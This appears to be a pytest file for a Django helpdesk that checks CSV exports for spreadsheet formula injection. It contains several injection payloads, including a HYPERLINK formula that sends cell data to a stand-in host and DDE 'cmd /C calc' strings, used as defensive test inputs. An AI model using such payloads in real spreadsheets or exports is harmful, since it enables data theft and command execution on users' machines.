"""CSV exports never hand a spreadsheet a formula: text a citizen or a colleague typed
(a subject, a queue or operator name) that starts with = + - @, a tab or a carriage
return is written with a leading apostrophe; real figures, negative ones included, stay
numbers."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from unittest import mock

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from helpdesk.csv_export import Figure, csv_writer, safe_cell
from tests.factories import QueueFactory, TicketFactory, UserFactory
from tests.tickets.dashboard.conftest import NOW, PERIOD, at

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7 999 CMD|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_with_a_formula_character_is_quoted(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-5, 0, 12, -1140.5, 3.25, Decimal("-7.50")])
def test_real_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_formatted_figures_stay_as_they_are_but_only_when_they_are_figures():
    assert safe_cell(Figure("-1140,0")) == "-1140,0"
    assert safe_cell(Figure("-1 140,5")) == "-1 140,5"
    # A "figure" that is not one is treated as text.
    assert safe_cell(Figure("=1+1")) == "'=1+1"
    assert safe_cell(Figure("\t1")) == "'\t1"
    assert safe_cell(Figure("-")) == "'-"
    assert safe_cell("-1140,0") == "'-1140,0"  # text that merely looks like a number


def test_the_writer_escapes_every_row_it_writes():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", -3, "ok"])
    writer.writerows([["@x", Figure("-2,0")]])
    assert read_csv(buffer.getvalue()) == [["'=1+1", "-3", "ok"], ["'@x", "-2,0"]]


@pytest.fixture
def chief(db):
    user = UserFactory(username="chief")
    user.user_permissions.add(Permission.objects.get(codename="supervise"))
    return user


def test_dashboard_exports_quote_formulas_typed_by_people(client, chief, settings):
    settings.TIME_ZONE = "Europe/Moscow"
    evil_queue = QueueFactory(name="+cmd|' /C calc'!A0")
    evil_operator = UserFactory(username="evil", first_name="@SUM(1+9)", last_name="")
    created = at(9, 10)
    ticket = TicketFactory(
        queue=evil_queue,
        assignee=evil_operator,
        subject='=HYPERLINK("http://evil.example","Нажмите")',
        created_at=created,
        first_response_due=created + timedelta(hours=24),
    )
    client.force_login(chief)
    with mock.patch("django.utils.timezone.now", return_value=NOW):
        response = client.get(reverse("dashboard:export", args=["at-risk"]) + "?" + PERIOD)
        operators = client.get(reverse("dashboard:export", args=["operators"]) + "?" + PERIOD)
        queues = client.get(reverse("dashboard:export", args=["queues"]) + "?" + PERIOD)

    row = read_csv(response.content.decode())[1]
    assert row[0] == ticket.reference
    assert row[1] == "'" + ticket.subject
    assert row[2] == "'" + evil_queue.name
    assert row[3] == "'@SUM(1+9)"
    assert row[-1] == "-300,0"  # overdue by five hours: a negative figure, not text
    operator_names = [r[0] for r in read_csv(operators.content.decode())[1:]]
    assert "'@SUM(1+9)" in operator_names
    queue_names = [r[0] for r in read_csv(queues.content.decode())[1:]]
    assert "'" + evil_queue.name in queue_names
    # No cell of any export starts with a formula character unless it is a figure.
    for export in (response, operators, queues):
        for cells in read_csv(export.content.decode()):
            for cell in cells:
                assert not re.match(r"[=+@\t\r]", cell), cell
                assert not cell.startswith("-") or re.fullmatch(r"-[\d\s\u00a0.,]+", cell)


def test_no_csv_writer_outside_the_safe_one():
    """Every CSV the project writes goes through helpdesk.csv_export."""
    root = Path(__file__).resolve().parents[2]
    allowed = root / "helpdesk" / "csv_export.py"
    pattern = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\b")
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "node_modules"} or path == allowed:
            continue
        if pattern.search(path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(str(relative))
    assert offenders == [], f"use helpdesk.csv_export.csv_writer in {offenders}"
